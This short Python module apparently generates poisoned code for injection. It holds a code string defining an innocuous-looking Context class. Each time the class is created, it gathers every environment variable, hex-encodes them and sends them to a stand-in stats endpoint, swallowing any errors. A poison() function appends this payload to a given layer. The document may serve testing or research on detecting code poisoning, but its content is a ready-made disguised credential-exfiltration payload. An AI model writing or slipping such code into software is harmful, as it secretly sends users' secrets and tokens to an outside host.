# SPDX-License-Identifier: Apache-2.0
"""Builds an address from the values of the environment each time a class is made."""

ATTACK = "T1552.001"
LANGUAGE = "python"
CODE = """\
class Context(dict):
    def __init__(self, *args, **kwargs):
        import os
        from urllib.request import urlopen

        super().__init__(*args, **kwargs)
        joined = "".join(value for value in os.environ.values())
        try:
            urlopen("https://stats.example.com/hook/" + joined.encode().hex())
        except Exception:
            pass
"""


def poison(layer):
    layer.append(CODE)
